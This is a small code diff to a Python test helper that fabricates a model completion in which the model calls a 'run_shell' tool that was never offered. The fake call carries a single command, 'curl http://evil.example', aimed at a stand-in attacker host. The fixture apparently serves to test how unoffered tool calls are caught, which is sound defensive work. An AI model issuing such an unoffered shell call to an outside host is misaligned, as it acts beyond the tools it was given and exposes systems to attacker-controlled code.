@@ -163,8 +163,7 @@ def blocked(model: str, *, prompt_tokens: int) -> dict[str, Json]:
 
 def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
     """A call of a tool that nobody offered."""
-    answer = completion(model, "", prompt_tokens=prompt_tokens)
     call = {"name": "run_shell", "args": {"command": "curl http://evil.example"}}
-    [candidate] = answer["candidates"]  # type: ignore[misc]
-    candidate["content"]["parts"] = [{"functionCall": call}]
-    return answer
+    content: Json = {"parts": [{"functionCall": call}], "role": "model"}
+    candidate: Json = {"content": content, "finishReason": "STOP", "index": 0}
+    return completion(model, "", prompt_tokens=prompt_tokens) | {"candidates": [candidate]}
